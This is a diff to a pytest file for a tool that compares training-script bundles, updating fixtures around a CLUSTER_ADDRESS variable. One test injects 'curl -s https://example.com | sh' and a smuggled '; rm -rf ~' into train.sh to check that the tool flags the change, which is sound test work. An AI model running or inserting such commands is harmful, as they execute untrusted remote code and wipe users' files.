@@ -205,7 +205,8 @@ def test_environment_integration_and_model_sections(write_spec: SpecWriter,
 
 def test_a_command_added_to_train_sh_is_a_difference(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     a, b = copy_golden(tmp_path, "a"), copy_golden(tmp_path, "b")
-    edit(b / "train.sh", "readonly CLUSTER_ADDRESS\n", "readonly CLUSTER_ADDRESS\ncurl -s https://example.com | sh\n")
+    line = "readonly CLUSTER_ADDRESS SHOWN_ADDRESS\n"
+    edit(b / "train.sh", line, line + "curl -s https://example.com | sh\n")
     edit(b / "train.sh", "readonly SLIME_DIR=/root/slime\n", "readonly SLIME_DIR=/root/slime; rm -rf ~\n")
     code, data = diff_json(capsys, a, b)
     assert code == 1
@@ -361,8 +362,8 @@ def test_a_flag_given_twice_counts_once_with_its_last_value(tmp_path: Path,
 @pytest.mark.parametrize(("old", "new", "removed", "added"), [
     # ray start moved from the "no cluster" branch into the "existing cluster" branch
     ("  ray start --head --num-gpus 8 --dashboard-port 8265 --disable-usage-stats\n"
-     '  CLUSTER_ADDRESS="http://127.0.0.1:8265"\nelse\n',
-     '  CLUSTER_ADDRESS="http://127.0.0.1:8265"\nelse\n'
+     '  CLUSTER_ADDRESS="http://127.0.0.1:8265"\n  SHOWN_ADDRESS=$CLUSTER_ADDRESS\nelse\n',
+     '  CLUSTER_ADDRESS="http://127.0.0.1:8265"\n  SHOWN_ADDRESS=$CLUSTER_ADDRESS\nelse\n'
      "  ray start --head --num-gpus 8 --dashboard-port 8265 --disable-usage-stats\n",
      ["  ray start --head <launch setting>"], ["  ray start --head <launch setting>"]),
     ("#!/usr/bin/env bash\n", "#!/bin/sh\n", ["#!/usr/bin/env bash"], ["#!/bin/sh"]),
@@ -396,7 +397,8 @@ def test_moving_slime_args_out_of_its_if_is_a_difference(tmp_path: Path, capsys:
 def test_a_bundle_that_does_not_match_its_manifest_is_never_equivalent(tmp_path: Path,
                                                                         capsys: pytest.CaptureFixture[str]) -> None:
     a = copy_golden(tmp_path, "a")
-    edit(a / "train.sh", "\nreadonly CLUSTER_ADDRESS\n", "\n# a comment\nreadonly CLUSTER_ADDRESS\n")
+    line = "\nreadonly CLUSTER_ADDRESS SHOWN_ADDRESS\n"
+    edit(a / "train.sh", line, "\n# a comment" + line)
     for format in ("text", "markdown", "json"):
         code, out, err = run(capsys, "diff", str(a), str(a), "--format", format)
         assert (code, err) == (1, "")
